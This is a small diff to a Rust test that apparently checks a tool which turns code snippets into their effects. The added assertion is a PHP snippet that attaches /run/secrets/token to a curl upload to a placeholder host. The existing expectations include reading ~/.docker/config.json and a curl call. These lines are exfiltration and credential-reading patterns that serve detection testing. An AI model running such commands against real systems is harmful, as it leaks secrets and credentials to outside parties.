@@ -332,6 +332,10 @@ fn files_opened_as_objects_or_sent_by_ftp() {
         ),
         ["curl tcp://h", "cat ~/.docker/config.json"]
     );
+    assert!(
+        effects("$f = new CURLFile('/run/secrets/token'); $c = curl_init('https://h.example/u');")
+            .contains(&"cat /run/secrets/token".to_owned())
+    );
 }
 
 #[test]
